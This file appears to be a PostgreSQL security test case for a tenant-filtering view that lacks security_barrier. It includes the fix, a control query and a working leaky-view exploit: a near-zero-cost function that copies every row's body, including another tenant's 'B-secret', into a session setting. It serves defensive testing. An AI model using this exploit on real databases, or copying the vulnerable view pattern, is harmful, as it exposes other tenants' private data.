-- What: A view with its owner's rights filters by the tenant itself, without security_barrier: the reader's own test runs first.
-- Class: view_owner_rights|view_not_barrier
-- Object: public.my_letters
-- Exploit: A cheap function of the attacker's in WHERE sees every row before the view's filter does.
-- @superuser
create table letters (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table letters enable row level security;
alter table letters force row level security;
create policy tenant on letters using (tenant_id::text = current_setting('app.tenant_id', true));
create view my_letters as select id, body from letters where tenant_id::text = current_setting('app.tenant_id', true);
grant select on my_letters to app_user;
-- @rows
insert into letters (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter view my_letters set (security_barrier = true);
-- @control
select from my_letters where body = 'A-row';
-- @exploit
create function pg_temp.look(text) returns boolean language plpgsql cost 0.0000001 as $$
begin
  perform set_config('loot.text', coalesce(current_setting('loot.text', true), '') || $1, false);
  return true;
end $$;
select count(*) from my_letters where pg_temp.look(body);
select 1 where current_setting('loot.text', true) like '%B-secret%';
